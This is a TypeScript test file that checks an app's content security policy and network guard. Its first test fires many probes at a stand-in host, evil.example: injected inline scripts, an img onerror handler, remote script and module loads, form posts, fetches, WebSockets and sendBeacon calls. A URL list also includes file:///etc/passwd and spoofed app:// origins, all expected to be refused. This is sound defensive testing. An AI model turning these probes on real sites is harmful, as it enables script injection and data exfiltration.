import type { Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { type Program, quietPage, startProgram } from './support.ts'

let program: Program
let page: Page
beforeAll(async () => {
  program = startProgram()
  page = await quietPage(program)
})
afterAll(() => program.dispose())

const remote = 'https://evil.example'

/** Each probe says in the page whether it got through: `marks` collects those that did. */
test('inline code, eval and anything remote fail', async () => {
  const outcome = await page.evaluate(async (evil) => {
    const scope = window as unknown as { marks: string[] }
    scope.marks = []
    // The debugger that started this may use eval; what runs in a later task is the page's own.
    await new Promise((done) => setTimeout(done, 0))
    const violations: string[] = []
    addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective))
    const attempt = (name: string, act: () => unknown) => {
      try {
        if (act() === 'through') scope.marks.push(name)
      } catch {
        // Refused at once, as it should be.
      }
    }
    const add = <K extends keyof HTMLElementTagNameMap>(
      name: K,
      change: (element: HTMLElementTagNameMap[K]) => void,
    ) => {
      const element = document.createElement(name)
      element.addEventListener(
        'load',
        () => name !== 'iframe' && name !== 'object' && scope.marks.push(`${name} loaded`),
      )
      attempt(`${name} set up`, () => {
        change(element)
        document.body.append(element)
        return undefined
      })
      return element
    }
    attempt('eval', () => eval('"through"'))
    attempt('new Function', () => new Function('return "through"')())
    attempt('setTimeout with text', () => setTimeout('window.marks.push("text timer")', 0) && undefined)
    attempt('markup from text', () => {
      document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.marks.push(\'handler\')">')
      return 'through'
    })
    add('script', (script) => {
      script.append(document.createTextNode('window.marks.push("inline")'))
    })
    add('script', (script) => {
      script.src = `${evil}/x.js`
    })
    add('script', (script) => {
      script.type = 'module'
      script.src = `${evil}/module.js`
    })
    add('script', (script) => {
      script.src = 'data:text/javascript,window.marks.push("data script")'
    })
    add('img', (image) => {
      image.src = `${evil}/x.png`
    })
    add('iframe', (frame) => {
      frame.src = `${evil}/`
    })
    add('object', (object) => {
      object.data = `${evil}/x.swf`
    })
    add('link', (link) => {
      link.rel = 'stylesheet'
      link.href = `${evil}/x.css`
    })
    add('video', (video) => {
      video.src = `${evil}/x.mp4`
    })
    add('base', (base) => {
      base.href = `${evil}/`
    })
    add('form', (form) => {
      form.action = `${evil}/form`
      form.method = 'post'
      document.body.append(form)
      form.submit()
    })
    const silence = new Promise<never>((_done, fail) => setTimeout(() => fail(new Error('no answer')), 3000))
    const probes = [
      fetch(`${evil}/x`),
      fetch(`${evil}/x`, { mode: 'no-cors' }),
      new Promise((done, fail) => {
        const socket = new WebSocket('wss://evil.example/')
        socket.onopen = done
        socket.onerror = fail
      }),
      new Promise((done, fail) => {
        const source = new EventSource(`${evil}/x`)
        source.onopen = done
        source.onerror = () => {
          source.close()
          fail(new Error('refused'))
        }
      }),
      navigator.serviceWorker.register('/x.js'),
      new Promise((done, fail) => {
        const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))
        worker.onmessage = done
        worker.onerror = fail
      }),
    ]
    const tried = await Promise.allSettled(probes.map((probe) => Promise.race([probe, silence])))
    attempt('beacon', () => {
      navigator.sendBeacon(`${evil}/beacon`, 'x')
    })
    await new Promise((done) => setTimeout(done, 500))
    return {
      marks: scope.marks,
      through: tried.map(({ status }, at) => (status === 'fulfilled' ? at : null)).filter((at) => at !== null),
      baseUri: document.baseURI.startsWith(evil),
      directives: new Set(violations).size,
    }
  }, remote)
  expect(outcome).toEqual({ marks: [], through: [], baseUri: false, directives: expect.any(Number) })
  expect(outcome.directives).toBeGreaterThanOrEqual(6)
})

test('no request for anything but the page and its media was ever let through', () => {
  const outside = program.notes.filter(
    ({ note, url, allowed }) =>
      note === 'request' && allowed === true && !/^(?:app:\/\/metastamp|asset:\/\/media)\//.test(String(url)),
  )
  expect(outside).toEqual([])
})

test('the network guard refuses what a hole in the policy would let out', async () => {
  const cases: [string, string][] = [
    ['https://evil.example/', 'image'],
    ['http://127.0.0.1:8080/', 'xhr'],
    ['ws://127.0.0.1/', 'webSocket'],
    ['wss://evil.example/', 'webSocket'],
    ['file:///etc/passwd', 'image'],
    ['ftp://evil.example/', 'mainFrame'],
    ['data:text/html,x', 'subFrame'],
    ['data:image/png;base64,AAAA', 'image'],
    ['blob:https://evil.example/1', 'script'],
    ['app://evil/', 'script'],
    ['app://metastamp.evil/', 'script'],
    ['app://user@metastamp/', 'script'],
    ['asset://evil/x', 'image'],
    ['chrome://settings/', 'mainFrame'],
    ['app://metastamp/', 'mainFrame'],
    ['asset://media/x', 'image'],
    ['blob:app://metastamp/1', 'image'],
  ]
  const allowed: string[] = []
  for (const [url, resourceType] of cases) {
    if (await program.order<boolean>('may-request', { url, resourceType })) allowed.push(url)
  }
  expect(allowed).toEqual(['app://metastamp/', 'asset://media/x', 'blob:app://metastamp/1'])
})
